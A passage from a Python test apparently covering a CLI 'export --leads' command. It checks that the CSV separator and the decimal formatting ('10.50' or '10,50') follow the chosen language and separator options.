        (["--language", "ru", "--separator", "comma"], ","),
        (["--language", "en", "--separator", "semicolon"], ";"),
    ):
        result = runner.invoke(args=["export", "--leads", "-", "--timezone", "UTC", *options])
        assert result.exit_code == 0, result.output
        text = result.stdout_bytes.decode("utf-8-sig")
        _header, row = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        assert row[9] == ("10,50" if separator == ";" else "10.50"), options
